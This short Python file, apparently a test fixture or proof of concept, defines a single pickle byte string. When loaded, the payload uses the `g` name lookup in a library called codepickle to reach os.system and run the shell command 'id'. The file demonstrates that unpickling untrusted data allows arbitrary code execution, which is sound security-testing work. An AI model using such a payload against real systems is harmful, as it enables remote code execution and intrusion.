"""The wire format's own `g` looks up any name."""

PAYLOAD = b"\x80\x04\x8c\x13codepickle._runtime\x8c\x01g\x93(\x8c\x02os\x8c\x06systemtR\x8c\x02id\x85R."
